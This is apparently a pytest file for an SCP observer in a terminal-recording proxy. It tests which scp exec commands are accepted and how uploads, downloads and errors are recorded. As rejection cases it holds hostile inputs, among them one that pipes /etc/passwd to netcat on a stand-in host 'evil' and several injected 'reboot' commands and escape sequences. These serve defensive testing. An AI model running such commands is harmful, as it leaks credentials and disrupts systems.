"""The legacy scp observer on hand-built conversations, and which exec commands it takes on."""

from __future__ import annotations

import hashlib

import pytest

from terminal.proxy.observers import ScpObserver, Transfer
from terminal.proxy.observers.scp import MAX_LINE
from terminal.proxy.observers.scpcommand import ScpCommand, parse_scp_command

OK = b"\x00"


def sha(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()


class Channel:
    """One scp exec channel, fed one byte at a time; ``source`` / ``sink`` pick the side by direction."""

    def __init__(self, command: str, *, sources: tuple[str, ...] = ()) -> None:
        self.seen: list[Transfer] = []
        observer = ScpObserver.for_command(command, self.seen.append)
        assert observer is not None
        if sources:  # several sources on one channel, as older scp and its forks send them
            observer = ScpObserver(self.seen.append, direction="download", paths=sources)
        self.observer = observer

    def _feed(self, side: str, stream: bytes) -> None:
        client = (side == "source") == (self.observer.direction == "upload")
        feed = self.observer.client_data if client else self.observer.server_data
        for index in range(len(stream)):
            feed(stream[index : index + 1])

    def source(self, *parts: bytes) -> None:
        self._feed("source", b"".join(parts))

    def sink(self, *parts: bytes) -> None:
        self._feed("sink", b"".join(parts))

    def file(self, name: bytes, content: bytes, *, answer: bytes = OK) -> None:
        self.source(b"C0644 %d %s\n" % (len(content), name))
        self.sink(answer)
        if answer == OK:
            self.source(content, OK)
            self.sink(OK)


@pytest.mark.parametrize(
    ("command", "parsed"),
    [
        ("scp -t /tmp", ScpCommand("upload", ("/tmp",), False, False)),
        ("scp -v -r -p -d -t -- /srv/www", ScpCommand("upload", ("/srv/www",), True, True)),
        ("scp -r -p -t '/tmp/a b'", ScpCommand("upload", ("/tmp/a b",), True, False)),
        ("scp -f /var/log/syslog", ScpCommand("download", ("/var/log/syslog",), False, False)),
        ("scp -f ~/notes.txt", ScpCommand("download", ("~/notes.txt",), False, False)),
        ("scp -f /tmp/z\\ w", ScpCommand("download", ("/tmp/z w",), False, False)),
        ("scp -f -- -dashed", ScpCommand("download", ("-dashed",), False, False)),
        ("scp -f '/tmp/$(reboot);x'", ScpCommand("download", ("/tmp/$(reboot);x",), False, False)),
    ],
)
def test_plain_scp_commands_are_recognised(command: str, parsed: ScpCommand) -> None:
    assert parse_scp_command(command) == parsed


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "scp",
        "scp -t",
        "scp -t /a /b",  # the remote scp refuses an ambiguous target
        "scp -tf /a",
        "scp -r /a",
        "scp -Z -t /a",
        "scp -t /tmp; reboot",
        "scp -t /tmp && reboot",
        "scp -f /etc/passwd | nc evil 1",
        "scp -t /tmp > /dev/null",
        "scp -f /tmp/$(reboot)",
        'scp -f "/tmp/$(reboot)"',
        "scp -f /tmp/`reboot`",
        "scp -t /tmp\nreboot",
        "scp -f 'unterminated",
        "FOO=1 scp -t /tmp",
        "sudo scp -t /tmp",
        "",
        # Only what OpenSSH's scp sends: the program `scp` itself, its flags apart and in order, one plain path.
        "~/bin/scp -f notes",  # anything can be called scp: `exec sh` ran unrecorded
        "/usr/bin/scp -t /tmp",
        "./scp -f notes",
        "scp -prt /tmp",
        "scp -p -r -t /tmp",
        "scp -q -t /tmp",
        "scp -f /tmp/a /tmp/b",
        'scp -f "/tmp/x y"',
        "scp -f $HOME/x",
        "scp -f /var/log/*.log",
        "scp -f /tmp/a # a comment",
        "scp -f -x",
        "scp  -t /tmp",
        "scp -t /tmp ",
        "scp -f /tmp/a\tb",
        "scp -f /tmp/\x1b[31m",
    ],
)
def test_anything_more_than_a_plain_scp_is_not_taken_on(command: str) -> None:
    assert ScpObserver.for_command(command, lambda transfer: None) is None


def test_an_upload_with_directories_times_and_a_refused_file() -> None:
    channel = Channel("scp -r -p -t /srv")
    channel.sink(OK)
    channel.source(b"T1700000000 0 1700000000 0\n")
    channel.sink(OK)
    channel.source(b"D0755 0 site\n")
    channel.sink(OK)
    channel.file(b"index.html", b"<h1>hi</h1>")
    channel.file(b"locked", b"never sent", answer=b"\x01scp: /srv/site/locked: Permission denied\n")
    channel.source(b"D0700 0 assets\n")
    channel.sink(OK)
    channel.file(b"$(reboot) \x1b[2J", b"")
    channel.source(b"E\n")
    channel.sink(OK)
    channel.source(b"E\n")
    channel.sink(OK)
    channel.file(b"top.txt", b"top")
    channel.observer.close()
    assert channel.observer.failure is None
    assert channel.seen == [
        Transfer("/srv/site/index.html", "upload", 11, sha(b"<h1>hi</h1>"), True, "scp"),
        Transfer("/srv/site/assets/$(reboot) \x1b[2J", "upload", 0, sha(b""), True, "scp"),
        Transfer("/srv/top.txt", "upload", 3, sha(b"top"), True, "scp"),
    ]


def test_download_paths_come_from_the_source_arguments() -> None:
    channel = Channel("scp -f /etc/hosts", sources=("/etc/hosts", "/var/log/syslog"))
    channel.sink(OK)
    channel.file(b"hosts", b"127.0.0.1 localhost\n")
    channel.file(b"syslog", b"boot\n")
    channel.source(b"\x01scp: /var/log/missing: No such file or directory\n")  # nobody answers this one
    channel.file(b"b\xffd", b"!")
    assert [(t.path, t.direction, t.complete) for t in channel.seen] == [
        ("/etc/hosts", "download", True),
        ("/var/log/syslog", "download", True),
        ("/etc/b\\xffd", "download", True),
    ]


def test_errors_after_the_data_and_a_channel_closed_midway_make_transfers_incomplete() -> None:
    channel = Channel("scp -d -t /tmp")
    channel.sink(OK)
    channel.source(b"C0644 4 unreadable\n")
    channel.sink(OK)
    channel.source(b"\x00" * 4, b"\x01scp: unreadable: Input/output error\n")  # the source failed to read
    channel.sink(OK)
    channel.file(b"diskfull", b"data", answer=OK)
    channel.seen[-1:] = []  # the same file again, now the sink fails to write it
    channel.source(b"C0644 4 diskfull\n")
    channel.sink(OK)
    channel.source(b"data", OK)
    channel.sink(b"\x01scp: /tmp/diskfull: No space left on device\n")
    channel.source(b"C0644 10 cut\n")
    channel.sink(OK)
    channel.source(b"12345")
    channel.observer.close()
    channel.observer.close()
    assert [(t.path, t.size, t.complete) for t in channel.seen] == [
        ("/tmp/unreadable", 4, False),
        ("/tmp/diskfull", 4, False),
        ("/tmp/cut", 5, False),
    ]
    assert channel.seen[-1].sha256 == sha(b"12345")


@pytest.mark.parametrize(
    ("stream_before", "garbage", "failure"),
    [
        ((), (b"source", b"X garbage\n"), "unexpected record"),
        ((), (b"source", b"C0644 notanumber name\n"), "unexpected record"),
        ((), (b"source", b"T1 2\n"), "malformed times record"),
        ((), (b"source", b"C0644 1 " + b"n" * MAX_LINE), "record line too long"),
        ((), (b"sink", OK), "an answer to nothing"),
        ((), (b"sink", b"\x01" + b"e" * MAX_LINE), "answer line too long"),
        (((b"source", b"C0644 5 f\n"),), (b"source", b"x" * (MAX_LINE + 1)), "the source ran ahead"),
    ],
)
def test_garbled_streams_stop_observing_without_raising(
    stream_before: tuple[tuple[bytes, bytes], ...], garbage: tuple[bytes, bytes], failure: str
) -> None:
    channel = Channel("scp -t /tmp")
    channel.sink(OK)
    channel.file(b"first", b"1")
    for side, data in stream_before:
        channel._feed(side.decode(), data)
    channel._feed(garbage[0].decode(), garbage[1])
    assert channel.observer.failure is not None and channel.observer.failure.startswith(failure)
    channel.file(b"after", b"2")  # no longer observed
    channel.observer.close()
    assert [t.path for t in channel.seen] == ["/tmp/first"]


def test_a_fatal_answer_ends_the_observing_and_reports_the_file_in_progress() -> None:
    channel = Channel("scp -t /tmp")
    channel.sink(OK)
    channel.source(b"C0644 3 f\n")
    channel.sink(OK)
    channel.source(b"abc", OK)
    channel.sink(b"\x02scp: fatal\n")
    channel.file(b"later", b"x")
    assert [(t.path, t.complete) for t in channel.seen] == [("/tmp/f", False)]


def test_bytes_after_the_protocol_ended_are_a_failure_so_the_proxy_records_them() -> None:
    channel = Channel("scp -t /srv")
    channel.sink(b"\x02scp: fatal\n")  # the instance's sink gives up at once
    assert channel.observer.failure is None
    channel.source(b"e")  # ...and still something flows: not scp any more
    assert channel.observer.failure == "data after the scp protocol ended"
    channel = Channel("scp -t /srv")
    channel.sink(OK)
    channel.observer.client_data(b"\x02scp: fatal\nmore")  # the rest of the very read that ended it
    assert channel.observer.failure == "data after the scp protocol ended"
    channel = Channel("scp -t /srv")
    channel.sink(OK)
    channel.observer.close()  # the channel ended: nothing more is a failure
    channel.source(b"late")
    assert channel.observer.failure is None


def test_a_download_whose_client_does_not_start_as_scp_fails_at_its_first_byte() -> None:
    # OpenSSH's sink always starts with "\0"; a program called scp on the instance's PATH fed commands
    # instead must not have its first line taken for an error answer (the relay records from here).
    channel = Channel("scp -f notes")
    channel.observer.client_data(b"e")
    assert channel.observer.failure == "the client did not start as an scp sink"
    upload = Channel("scp -t /srv")
    upload.sink(b"\x01scp: /srv: Not a directory\n")  # the instance's scp may refuse to start
    assert upload.observer.failure is None
